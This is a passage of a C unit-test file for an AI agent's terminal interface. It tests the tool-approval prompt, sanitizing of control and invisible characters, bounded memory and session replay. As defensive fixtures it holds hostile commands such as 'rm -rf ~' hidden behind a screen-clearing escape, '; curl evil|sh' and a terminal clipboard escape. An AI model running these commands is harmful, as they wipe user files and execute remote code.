	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.answer, APPROVE_NO);
	assert_null(a.reason);
	tui_model_release(&m);
}

/* timed KEY at ms (0: no time), with more input behind it when burst */
static void tkey(struct tui_model *m, enum tui_keycode c, uint32_t ch, uint64_t ms, int burst, struct tui_act *a)
{
	struct tui_key k = { c, ch, ms, burst };
	tui_keys_apply(m, &k, a);
	free(a->prompt);
	free(a->reason);
	a->prompt = a->reason = NULL;
}

/* A question lost under the user's keys (the pane shrank past it while a
 * refusal's reason was typed) leaves them typing into the prompt box: an
 * Enter in that flow does not send it, one after a pause does, and the
 * user is told once.  Before, " the log" Enter went to the model as a
 * prompt (tui-resize-reason-not-sent). */
static void test_tui_keys_question_lost_enter_held(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 60, 12, 1);
	question(&m, 0);
	tkey(&m, TK_CHAR, 'n', 1000, 0, &a);
	assert_int_equal(m.q, TQ_REASON);
	tkey(&m, TK_CHAR, 'k', 1120, 0, &a);
	tui_model_question_lost(&m, 1200);
	assert_int_equal(m.q, TQ_NONE);
	uint64_t t = 1200;
	for (const char *c = " the log, please, for the whole afternoon"; *c; c++) {
		t += 120;	/* longer than one quiet in all */
		tkey(&m, TK_CHAR, (unsigned char)*c, t, 0, &a);
	}
	tkey(&m, TK_ENTER, '\r', t + 120, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.stold, 1);
	assert_string_equal(m.in.buf, " the log, please, for the whole afternoon");
	tkey(&m, TK_ENTER, '\r', t + 240, 0, &a);	/* said once */
	assert_int_equal(a.act, TACT_NONE);
	tkey(&m, TK_ENTER, '\r', t + 240 + APPROVE_RECOVER_MS, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	/* later prompts are not held */
	tkey(&m, TK_CHAR, 'x', t + 5000, 0, &a);
	tkey(&m, TK_ENTER, '\r', t + 5010, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	tui_model_release(&m);
}

/* A question that comes on a pane too small to show it is refused at once,
 * under the keys of someone typing on (the n and the reason meant for it,
 * the rest of a prompt): an Enter in that flow does not send what they
 * left in the prompt box, one after a pause does, as when the pane shrinks
 * past a question.  Before, the Enter sent it as a new turn once the
 * refused turn ended (tui-small-question-reason-not-sent). */
static void test_tui_keys_question_arrived_small_enter_held(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 60, 4, 1);
	tui_model_user(&m, "clean up", 900);
	char *whole = gate_whole("write", "{\"path\":\"/w/a.txt\"}", NULL);
	struct approval_question q = { "write", "/w/a.txt", "{\"path\":\"/w/a.txt\"}", NULL, whole, 0 };
	assert_int_equal(tui_model_question_arrived(&m, &q, 1000), 0);
	free(whole);
	assert_int_equal(m.q, TQ_NONE);
	char *s = screen(&m);
	assert_non_null(strstr(s, "enlarge"));
	free(s);
	uint64_t t = 1000;
	for (const char *c = "n keep the log, please"; *c; c++) {
		t += 120;
		tkey(&m, TK_CHAR, (unsigned char)*c, t, 0, &a);
		assert_int_equal(a.act, TACT_NONE);
		if (*c == 'k')
			tui_model_turn_done(&m);	/* the refused turn ends meanwhile */
	}
	tkey(&m, TK_ENTER, '\r', t + 120, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.stold, 1);
	assert_string_equal(m.in.buf, "n keep the log, please");
	tui_model_resize(&m, 200, 30);	/* room to read the notes */
	s = screen(&m);
	assert_non_null(strstr(s, "Enter not taken"));
	free(s);
	tkey(&m, TK_ENTER, '\r', t + 120 + APPROVE_RECOVER_MS, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	tui_model_release(&m);

	/* shown on a pane that fits it: nothing held */
	tui_model_init(&m, 80, 24, 1);
	q.whole = whole = gate_whole("write", "{\"path\":\"/w/a.txt\"}", NULL);
	assert_int_equal(tui_model_question_arrived(&m, &q, 1000), 1);
	free(whole);
	assert_int_equal(m.q, TQ_ASK);
	tui_model_question_end(&m);
	tkey(&m, TK_CHAR, 'x', 1100, 0, &a);
	tkey(&m, TK_ENTER, '\r', 1200, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	tui_model_release(&m);
}

/* A key at a question answers only when it stands alone (keys.h): not in
 * a burst (a sequence's tail, a paste whose start was thrown away), not
 * within TUI_ANSWER_QUIET_MS of the key before; escape always refuses. */
static void test_tui_keys_question_burst(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 60, 12, 1);
	question(&m, 0);
	/* more input behind it: not an answer */
	tkey(&m, TK_CHAR, 'y', 1000, 1, &a);
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.q, TQ_ASK);
	/* ESC [ 1 ; 8 A as keys, a millisecond apart: the final A is not "always" */
	tkey(&m, TK_NONE, 0, 2000, 0, &a);
	tkey(&m, TK_CHAR, '1', 2000, 0, &a);
	tkey(&m, TK_CHAR, ';', 2001, 0, &a);
	tkey(&m, TK_CHAR, '8', 2001, 0, &a);
	tkey(&m, TK_CHAR, 'A', 2001, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	/* a key that was not taken keeps pushing the quiet on, by
	 * APPROVE_RECOVER_MS: "no" in one read, then a reason typed a key
	 * each 120 ms, never answers "a" */
	tkey(&m, TK_CHAR, 'y', 2031, 0, &a);
	tkey(&m, TK_CHAR, 'y', 2400, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.qtold, 1);		/* and the user is told */
	tkey(&m, TK_CHAR, 'n', 5000, 1, &a);
	tkey(&m, TK_CHAR, 'o', 5000, 0, &a);
	uint64_t t = 5000;
	for (const char *r = ", absolutely not"; *r; r++) {
		t += 120;
		tkey(&m, TK_CHAR, (unsigned char)*r, t, 0, &a);
		assert_int_equal(a.act, TACT_NONE);
	}
	assert_int_equal(m.q, TQ_ASK);
	/* alone, after the quiet: the answer */
	tkey(&m, TK_CHAR, 'y', t + APPROVE_RECOVER_MS, 0, &a);
	assert_int_equal(a.act, TACT_ANSWER);
	assert_int_equal(a.answer, APPROVE_YES);

	/* input thrown away when the question was drawn (tui.c sets the quiet) */
	question(&m, 0);
	m.qquiet = 5000 + APPROVE_RECOVER_MS;
	tkey(&m, TK_CHAR, 'a', 5010, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	/* escape refuses even inside the quiet */
	tkey(&m, TK_ESC, 0, 5020, 0, &a);
	assert_int_equal(a.act, TACT_ANSWER);
	assert_int_equal(a.answer, APPROVE_NO);
	assert_int_equal(a.stop, 1);

	/* a paste whose end marker was lost: escape still refuses */
	question(&m, 0);
	tkey(&m, TK_PASTE_START, 0, 7000, 0, &a);
	tkey(&m, TK_CHAR, 'y', 8000, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	tkey(&m, TK_ESC, 0, 9000, 0, &a);
	assert_int_equal(a.act, TACT_ANSWER);
	assert_int_equal(a.answer, APPROVE_NO);
	assert_int_equal(m.paste, 0);
	/* ... and stops a turn outside a question */
	tui_model_question_end(&m);
	m.busy = 1;
	tkey(&m, TK_PASTE_START, 0, 0, 0, &a);
	tkey(&m, TK_ESC, 0, 0, 0, &a);
	assert_int_equal(a.act, TACT_STOP);
	tui_model_release(&m);
}

/* v puts the whole call in the transcript, made safe: what the agent cut,
 * or what a pane too small for the question leaves out. */
static void test_tui_keys_question_whole(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 60, 12, 1);
	struct approval_question q = { "bash", "echo hi… [cut: 9 more bytes]", "{\"command\":\"echo hi… [cut]\"}",
				       NULL, "the whole bash call:\narguments: {\"command\":\"echo hi; \x1b[2Jrm -rf ~\"}\n" };
	tui_model_question(&m, &q);
	char *s = screen(&m);
	assert_non_null(strstr(s, "v view all"));
	assert_null(strstr(s, "rm -rf"));
	free(s);
	key(&m, TK_CHAR, 'v', &a);
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.q, TQ_ASK);		/* still asking */
	s = screen(&m);
	assert_non_null(strstr(s, "the whole bash call:"));
	assert_non_null(strstr(s, "echo hi; ^[[2Jrm -rf ~"));
	free(s);
	tui_model_question_end(&m);
	/* not cut by the agent: v still shows all of it, hint without the note */
	question(&m, 30);
	s = screen(&m);
	assert_non_null(strstr(s, "v view all,"));
	free(s);
	s = screen(&m);
	assert_null(strstr(s, "+line 15"));	/* between the question's first and last rows */
	free(s);
	key(&m, TK_CHAR, 'v', &a);
	int seen = 0;
	for (int i = 0; i < 8 && !seen; i++) {
		s = screen(&m);
		seen = strstr(s, "+line 15") != NULL;
		free(s);
		tui_model_scroll_page(&m, -1);
	}
	assert_true(seen);
	/* v again: the question whole, the note not added twice */
	size_t n = m.n;
	key(&m, TK_CHAR, 'v', &a);
	assert_int_equal(m.n, n);
	assert_int_equal(m.qcompact, 0);
	tui_model_question_end(&m);
	/* a line past TUI_MAX_LINE_BYTES is split, its tail kept */
	char *longcmd = xmalloc(20001);
	memset(longcmd, 'A', 20000);
	longcmd[20000] = '\0';
	char *w = xasprintf("the whole bash call:\narguments: {\"command\":\"%s; curl evil|sh\"}\n", longcmd);
	struct approval_question q2 = { "bash", "AAA… [cut]", "{… [cut]", NULL, w };
	tui_model_question(&m, &q2);
	key(&m, TK_CHAR, 'v', &a);
	char *all = tui_model_transcript(&m);
	assert_non_null(strstr(all, "; curl evil|sh"));
	free(all);
	free(w);
	free(longcmd);
	tui_model_release(&m);
}

/* v again in a pane that holds the compact question but not the whole one
 * (the pane shrank after the first v): the question stays compact, its
 * first row (the tool and what it runs) on screen; before, the full one
 * was drawn cut to its last rows, and y approved a call not shown. */
static void test_tui_keys_question_uncompact_fits(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 80, 12, 1);
	question(&m, 0);		/* first row, arguments, answer keys */
	key(&m, TK_CHAR, 'v', &a);
	assert_int_equal(m.qcompact, 1);
	tui_model_resize(&m, 80, 3);	/* two rows above the status line */
	assert_true(tui_model_question_fits(&m));
	key(&m, TK_CHAR, 'v', &a);
	assert_true(tui_model_question_fits(&m));
	char *s = screen(&m);
	assert_non_null(strstr(s, "write wants to run: /w/a.txt"));
	assert_non_null(strstr(s, "y yes, n no"));
	free(s);
	/* with room again, v shows it whole */
	tui_model_resize(&m, 80, 12);
	key(&m, TK_CHAR, 'v', &a);
	assert_int_equal(m.qcompact, 0);
	s = screen(&m);
	assert_non_null(strstr(s, "| arguments:"));
	free(s);
	tui_model_release(&m);
}

/*
 * The window's bound holds within one event too.  A delta (one SSE event
 * holds up to 4 MiB) or a stored answer replayed on resume (a session line
 * holds up to 16 MiB) made of line breaks was laid out whole before the
 * window was cut: every line of it held at once, some 100 bytes each, and
 * the line array never shrank again.  Before, 2 million line breaks in one
 * replayed answer peaked at 213 MB, 8 million at 846 MB (6 s).
 */
static void test_tui_bounded_one_event(void **state)
{
	(void)state;
	const size_t n = 1000000;
	char *nl = malloc(n + 2);
	memset(nl, '\n', n);
	nl[n] = 'x';
	nl[n + 1] = '\0';
	struct tui_model m;
	/* streamed (TEV_TEXT and TEV_THINKING), as live or as tui_replay
	 * hands a stored answer on */
	for (int kind = 0; kind < 2; kind++) {
		tui_model_init(&m, 80, 24, 1);
		struct turn_event ev = { 0 };
		ev.kind = kind ? TEV_THINKING : TEV_TEXT;
		ev.text = nl;
		ev.len = n + 1;
		tui_model_event(&m, &ev, 0);
		assert_true(m.n <= TUI_MAX_LINES);
		assert_true(m.dropped > 0);
		/* the array of lines held no more than the window at a time */
		assert_true(m.cap <= 4 * (size_t)TUI_MAX_LINES);
		tui_model_release(&m);
	}
	/* a note (an error, a retry, the whole view v shows) */
	tui_model_init(&m, 80, 24, 1);
	tui_model_note(&m, TL_NOTE, nl);
	assert_true(m.n <= TUI_MAX_LINES);
	assert_true(m.cap <= 4 * (size_t)TUI_MAX_LINES);
	tui_model_release(&m);
	free(nl);
}

static void test_tui_bounded_window(void **state)
{
	struct tui_model m;
	char *chunk = malloc(100001);
	memset(chunk, 'x', 100000);
	for (int i = 0; i < 100000; i += 80)
		chunk[i] = '\n';
	chunk[100000] = '\0';
	tui_model_init(&m, 80, 24, 1);
	for (int i = 0; i < 60; i++)		/* 6 MB streamed */
		text(&m, chunk);
	assert_true(m.bytes <= TUI_MAX_BYTES);
	assert_true(m.n <= TUI_MAX_LINES);
	assert_true(m.dropped > 0);
	char *t = tui_model_transcript(&m);
	assert_non_null(strstr(t, "earlier lines are not kept"));
	free(t);
	/* the byte cap on its own: 6 MB in lines of 1,000 bytes is 6,000
	 * lines, under the line cap, and must still be cut to 4 MiB */
	tui_model_release(&m);
	tui_model_init(&m, 80, 24, 1);
	memset(chunk, 'w', 100000);
	for (int i = 0; i < 100000; i += 1000)
		chunk[i] = '\n';
	for (int i = 0; i < 60; i++)
		text(&m, chunk);
	assert_true(m.n < TUI_MAX_LINES);
	assert_true(m.bytes <= TUI_MAX_BYTES);
	assert_true(m.dropped > 0);
	/* one endless line is split into bounded logical lines */
	tui_model_release(&m);
	tui_model_init(&m, 80, 24, 1);
	memset(chunk, 'y', 100000);
	text(&m, chunk);
	assert_true(m.n >= 100000 / TUI_MAX_LINE_BYTES);
	for (size_t i = 0; i < m.n; i++)
		assert_true(m.lines[m.head + i].len <= TUI_MAX_LINE_BYTES);
	tui_model_release(&m);
	/* a tool row keeps the bound too: the model's tool name is cut like
	 * its subject; a tool output line is cut between characters */
	tui_model_init(&m, 80, 24, 1);
	for (int i = 0; i < 100000; i += 2)
		memcpy(chunk + i, "\xc3\xa9", 2);	/* é: a cut at an odd byte would split one */
	chunk[99999] = '\0';
	struct turn_event ev = { 0 };
	ev.kind = TEV_TOOL_CALL;
	ev.id = "t1";
	ev.tool = chunk;
	ev.subject = "s";
	tui_model_event(&m, &ev, 1000);
	ev.kind = TEV_TOOL_RESULT;
	ev.text = chunk;
	tui_model_event(&m, &ev, 1250);
	for (size_t i = 0; i < m.n; i++) {
		const struct tui_line *l = &m.lines[m.head + i];
		assert_true(l->len <= TUI_MAX_LINE_BYTES);
		assert_null(strstr(l->text, "\xef\xbf\xbd"));	/* no U+FFFD from a split */
	}
	tui_model_release(&m);
	free(chunk);
}

/* What a tool row holds beside its text (the model's tool name and call
 * id, the subject) counts toward the window's bytes: before, a row kept
 * the model's whole tool name, so 20,000 rows of long names held
 * gigabytes whatever TUI_MAX_BYTES said. */
static void test_tui_bounded_tool_rows(void **state)
{
	struct tui_model m;
	size_t n = 64u << 10;
	char *name = malloc(n + 1), *id = malloc(n + 16);
	memset(name, 'n', n);
	name[n] = '\0';
	tui_model_init(&m, 80, 24, 1);
	for (int i = 0; i < 200; i++) {		/* 25 MB of names and ids */
		struct turn_event ev = { 0 };
		memset(id, 'i', n);
		snprintf(id + n, 16, "%d", i);
		ev.kind = TEV_TOOL_CALL;
		ev.id = id;
		ev.tool = name;
		ev.subject = "s";
		tui_model_event(&m, &ev, 1000);
		ev.kind = TEV_TOOL_RESULT;
		ev.text = "ok";
		tui_model_event(&m, &ev, 1100);
	}
	size_t held = 0;
	for (size_t i = 0; i < m.n; i++) {
		const struct tui_line *l = &m.lines[m.head + i];
		held += l->len;
		if (l->tool)
			held += strlen(l->tool->id) + strlen(l->tool->tool) + strlen(l->tool->subject);
	}
	assert_true(held <= TUI_MAX_BYTES);
	/* each result still found its own row: no row left running */
	for (size_t i = 0; i < m.n; i++) {
		const struct tui_line *l = &m.lines[m.head + i];
		if (l->tool)
			assert_int_equal(l->tool->status, TT_OK);
	}
	tui_model_release(&m);
	free(name);
	free(id);
}

static void test_tui_status_and_transcript(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 120, 8, 1);
	tui_model_set_info(&m, "claude-x", "rw /w", "denied", "read ls bash");
	tui_model_user(&m, "do it", 0);
	text(&m, "done\n");
	struct turn_event ev = { 0 };
	ev.kind = TEV_ROUND_END;
	ev.round = 1;	/* round 1 finished: round 2 is in progress */
	ev.usage.input_tokens = 1500;
	ev.usage.output_tokens = 42;
	tui_model_event(&m, &ev, 0);
	char *s = row(&m, 7);
	assert_non_null(strstr(s, "working"));
	assert_non_null(strstr(s, "claude-x | round 2 | in 1.5k out 42 | rw /w | net denied | tools read ls bash"));
	free(s);
	tui_model_turn_done(&m);
	s = row(&m, 7);
	assert_non_null(strstr(s, " ready |"));
	free(s);
	char *t = tui_model_transcript(&m);
	assert_string_equal(t, "> do it\n\ndone\n");
	free(t);
	tui_model_release(&m);
}

/* The status bar's round is the one in progress while a turn runs (1 while
 * the first streams, as agent-run's events number it) and, once the turn
 * is over, the number of rounds it kept (the session's "rounds").  Before,
 * it counted finished rounds: "round 0" while round 1 streamed. */
static void assert_round(struct tui_model *m, const char *want)
{
	char *s = row(m, 7);
	if (!strstr(s, want))
		fail_msg("want '%s' in the status row '%s'", want, s);
	free(s);
}

static void test_tui_status_round_in_progress(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 120, 8, 1);
	tui_model_set_info(&m, "claude-x", "rw /w", "denied", "bash");
	tui_model_user(&m, "do it", 0);
	assert_round(&m, "| round 1 |");	/* waiting for the first byte */
	struct turn_event ev = { 0 };
	ev.kind = TEV_TEXT;
	ev.text = "on it\n";
	ev.len = strlen(ev.text);
	ev.round = 1;
	tui_model_event(&m, &ev, 0);
	assert_round(&m, "| round 1 |");
	memset(&ev, 0, sizeof(ev));
	ev.kind = TEV_ROUND_END;
	ev.round = 1;
	tui_model_event(&m, &ev, 0);
	assert_round(&m, "| round 2 |");	/* the next request is out */
	ev.kind = TEV_TEXT;
	ev.text = "done\n";
	ev.len = strlen(ev.text);
	ev.round = 2;
	tui_model_event(&m, &ev, 0);
	assert_round(&m, "| round 2 |");
	memset(&ev, 0, sizeof(ev));
	ev.kind = TEV_ROUND_END;
	ev.round = 2;
	tui_model_event(&m, &ev, 0);
	ev.kind = TEV_TURN_END;
	ev.text = "end_turn";
	ev.round = 2;
	tui_model_event(&m, &ev, 0);
	tui_model_turn_done(&m);
	assert_round(&m, " ready | claude-x | round 2 |");
	/* the next turn starts at 1 again; stopped in its first round (the
	 * round dropped, the session's rounds 0), idle shows 0 rounds kept */
	tui_model_user(&m, "again", 0);
	assert_round(&m, "| round 1 |");
	memset(&ev, 0, sizeof(ev));
	ev.kind = TEV_TURN_END;
	ev.text = "stopped";
	ev.round = 0;
	tui_model_event(&m, &ev, 0);
	tui_model_turn_done(&m);
	assert_round(&m, " ready | claude-x | round 0 |");
	tui_model_release(&m);
}

/* A turn that ends because the model stopped for tool calls none of which
 * could run (their input refused: agent-run's tool_use, exit 2) says so in
 * plain words and what to do; before, "turn ended: tool_use" read as if
 * tools were still to come.  Other stop reasons keep their name. */
static void test_tui_turn_end_tool_use_said(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 200, 12, 1);
	tui_model_user(&m, "do it", 0);
	struct turn_event ev = { 0 };
	ev.kind = TEV_TURN_END;
	ev.text = "tool_use";
	ev.round = 1;
	tui_model_event(&m, &ev, 0);
	tui_model_turn_done(&m);
	char *s = screen(&m);
	assert_null(strstr(s, "turn ended: tool_use"));
	assert_non_null(strstr(s, "the turn ended without an answer: the model stopped to use tools and none of its "
				  "calls could run (the reasons are above) — ask again"));
	free(s);
	tui_model_user(&m, "more", 0);
	ev.text = "max_rounds";
	tui_model_event(&m, &ev, 0);
	tui_model_turn_done(&m);
	s = screen(&m);
	assert_non_null(strstr(s, "turn ended: max_rounds"));
	free(s);
	tui_model_release(&m);
}

/* A terminal that is not UTF-8 (the model's ascii mode: the locale chose
 * another charset) reads each byte of the UTF-8 text as a character:
 * U+00DB is C3 9B, and 9B is CSI there (9D OSC, 9C ST), so "Û31m" or an
 * OSC 52 spelled with Ý and Ü would drive it.  The transcript printed when
 * the screen ends is in the locale's charset, what it cannot hold a '?'. */
static void test_tui_transcript_locale_charset(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 80, 10, 1);
	/* kept as they came (a Latin-1 locale's wcwidth takes U+00DB) */
	tui_model_user(&m, "go \xc3\xa9", 0);
	text(&m, "A\xc3\x9b" "31mRED \xc3\x9d" "52;c;cHduZWQ=\xc3\x9c B \xe2\x94\x80\n");
	tui_model_turn_done(&m);
	assert_non_null(setlocale(LC_ALL, "C"));	/* ASCII: not UTF-8 */
	char *t = tui_model_transcript(&m);
	for (const unsigned char *p = (const unsigned char *)t; *p; p++)
		assert_false(*p >= 0x80 && *p < 0xa0);
	assert_string_equal(t, "> go ?\n\nA?31mRED ?52;c;cHduZWQ=? B ?\n");
	free(t);
	tui_model_release(&m);
	assert_non_null(setlocale(LC_ALL, "C.UTF-8"));
	/* on a UTF-8 terminal the text stays as it is */
	tui_model_init(&m, 80, 10, 1);
	text(&m, "\xc3\x9b \xe2\x94\x80\n");
	t = tui_model_transcript(&m);
	assert_string_equal(t, "\xc3\x9b \xe2\x94\x80\n");
	free(t);
	tui_model_release(&m);
}

static void test_tui_replay_history(void **state)
{
	struct tui_model m;
	cJSON *msgs = cJSON_Parse(
		"[{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\"list files\"}]},"
		"{\"role\":\"assistant\",\"content\":[{\"type\":\"text\",\"text\":\"Sure.\"},"
		"{\"type\":\"tool_use\",\"id\":\"tu1\",\"name\":\"bash\",\"input\":{\"command\":\"ls\"}}]},"
		"{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\",\"tool_use_id\":\"tu1\","
		"\"content\":\"a.c\\nb.c\",\"is_error\":false}]},"
		"{\"role\":\"assistant\",\"content\":[{\"type\":\"text\",\"text\":\"Two files.\"}]},"
		"{\"role\":\"user\",\"content\":\"thanks\"}]");
	assert_non_null(msgs);
	tui_model_init(&m, 60, 20, 1);
	assert_int_equal(tui_replay(&m, msgs), 2);
	assert_int_equal(m.busy, 0);
	char *t = tui_model_transcript(&m);
	assert_string_equal(t, "> list files\n\nSure.\n\n* bash ls | ok\n  | a.c\n    b.c\n\nTwo files.\n\n> thanks\n");
	free(t);
	cJSON_Delete(msgs);
	/* idle after a resume, the status bar shows the rounds of the last
	 * turn, as it does when a live turn ends */
	msgs = cJSON_Parse(
		"[{\"role\":\"user\",\"content\":\"a\"},{\"role\":\"assistant\",\"content\":[]},"
		"{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\"b\"}]},"
		"{\"role\":\"assistant\",\"content\":[{\"type\":\"text\",\"text\":\"c\"}]},"
		"{\"role\":\"user\",\"content\":[]},{\"role\":\"assistant\",\"content\":[]}]");
	assert_non_null(msgs);
	tui_model_release(&m);
	tui_model_init(&m, 120, 8, 1);
	tui_replay(&m, msgs);
	assert_round(&m, " ready | round 2 |");
	cJSON_Delete(msgs);
	tui_model_release(&m);
}

/* A resumed session's tool rows show what the live ones showed: the
 * characters that draw nothing in a command or path (a zero-width space,
 * tag characters spelling text the eye does not see) as <U+XXXX>. */
static void test_tui_replay_subject_visible(void **state)
{
	struct tui_model m;
	cJSON *msgs = cJSON_Parse(
		"[{\"role\":\"user\",\"content\":\"go\"},"
		"{\"role\":\"assistant\",\"content\":["
		"{\"type\":\"tool_use\",\"id\":\"tu1\",\"name\":\"bash\",\"input\":{\"command\":\"ls\\u200b \\udb40\\udc41x\"}},"
		"{\"type\":\"tool_use\",\"id\":\"tu2\",\"name\":\"read\",\"input\":{\"path\":\"a\\u2060b\"}}]}]");
	assert_non_null(msgs);
	tui_model_init(&m, 100, 20, 1);
	tui_replay(&m, msgs);
	char *t = tui_model_transcript(&m);
	assert_non_null(strstr(t, "* bash ls<U+200B> <U+E0041>x |"));
	assert_non_null(strstr(t, "* read a<U+2060>b |"));
	free(t);
	cJSON_Delete(msgs);
	tui_model_release(&m);
}

/* A resumed row's subject is chosen by the tool, as the live row's is
 * (agent.c): bash's command, any other tool's path, never a stray field.
 * Before, the replay took any call's "command" first, so a read of
 * a.txt the tool refused for its stray "command" (stored with it) read
 * "read rm -rf ~" after a resume, where the live row had read "read a.txt". */
static void test_tui_replay_subject_by_tool(void **state)
{
	(void)state;
	struct tui_model m;
	cJSON *msgs = cJSON_Parse(
		"[{\"role\":\"user\",\"content\":\"go\"},"
		"{\"role\":\"assistant\",\"content\":["
		"{\"type\":\"tool_use\",\"id\":\"tu1\",\"name\":\"read\",\"input\":{\"command\":\"rm -rf ~\",\"path\":\"a.txt\"}},"
		"{\"type\":\"tool_use\",\"id\":\"tu2\",\"name\":\"bash\",\"input\":{\"path\":\"b.txt\",\"command\":\"ls\"}},"
		"{\"type\":\"tool_use\",\"id\":\"tu3\",\"name\":\"write\",\"input\":{\"command\":\"curl x\"}}]}]");
	assert_non_null(msgs);
	tui_model_init(&m, 100, 20, 1);
	tui_replay(&m, msgs);
	char *t = tui_model_transcript(&m);
	assert_non_null(strstr(t, "* read a.txt |"));
	assert_non_null(strstr(t, "* bash ls |"));
	assert_null(strstr(t, "rm -rf"));
	assert_null(strstr(t, "curl x"));
	free(t);
	cJSON_Delete(msgs);
	tui_model_release(&m);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_tui_wrap_words),
		cmocka_unit_test(test_tui_wrap_wide_combining),
		cmocka_unit_test(test_tui_sanitize_controls),
		cmocka_unit_test(test_tui_sanitize_hidden),
		cmocka_unit_test(test_tui_stream_hidden),
		cmocka_unit_test(test_tui_stream_split_utf8),
		cmocka_unit_test(test_tui_markdown),
		cmocka_unit_test(test_tui_markdown_fence_text_drawn),
		cmocka_unit_test(test_tui_tool_fold),
		cmocka_unit_test(test_tui_tool_long_line_marked),
		cmocka_unit_test(test_tui_tool_name_mixed_script),
		cmocka_unit_test(test_tui_question_rows),
		cmocka_unit_test(test_tui_question_marks_tool_row),
		cmocka_unit_test(test_tui_question_first_last),
		cmocka_unit_test(test_tui_scroll_anchor),
		cmocka_unit_test(test_tui_resize_rewraps),
		cmocka_unit_test(test_tui_input_editing),
		cmocka_unit_test(test_tui_keys_send_history),
		cmocka_unit_test(test_tui_keys_quit),
		cmocka_unit_test(test_tui_keys_paste),
		cmocka_unit_test(test_tui_keys_paste_fake_end),
		cmocka_unit_test(test_tui_keys_paste_too_long),
		cmocka_unit_test(test_tui_keys_paste_bulk_same_as_keys),
		cmocka_unit_test(test_tui_keys_paste_crlf),
		cmocka_unit_test(test_tui_keys_paste_bulk_question_invalid),
		cmocka_unit_test(test_tui_keys_paste_esc_esc),
		cmocka_unit_test(test_tui_input_many_rows),
		cmocka_unit_test(test_tui_input_hidden),
		cmocka_unit_test(test_tui_input_hidden_random),
		cmocka_unit_test(test_tui_tool_elapsed),
		cmocka_unit_test(test_tui_paste_hidden),
		cmocka_unit_test(test_tui_input_controls),
		cmocka_unit_test(test_tui_paste_exact),
		cmocka_unit_test(test_tui_rows_fit_narrow),
		cmocka_unit_test(test_tui_keys_question),
		cmocka_unit_test(test_tui_keys_question_whole),
		cmocka_unit_test(test_tui_keys_question_burst),
		cmocka_unit_test(test_tui_keys_question_lost_enter_held),
		cmocka_unit_test(test_tui_keys_question_arrived_small_enter_held),
		cmocka_unit_test(test_tui_turn_end_tool_use_said),
		cmocka_unit_test(test_tui_keys_question_uncompact_fits),
		cmocka_unit_test(test_tui_bounded_window),
		cmocka_unit_test(test_tui_bounded_one_event),
		cmocka_unit_test(test_tui_bounded_tool_rows),
		cmocka_unit_test(test_tui_status_and_transcript),
		cmocka_unit_test(test_tui_status_round_in_progress),
		cmocka_unit_test(test_tui_replay_history),
		cmocka_unit_test(test_tui_transcript_locale_charset),
		cmocka_unit_test(test_tui_replay_subject_visible),
		cmocka_unit_test(test_tui_replay_subject_by_tool),
	};
	return cmocka_run_group_tests(tests, setup, NULL);
}
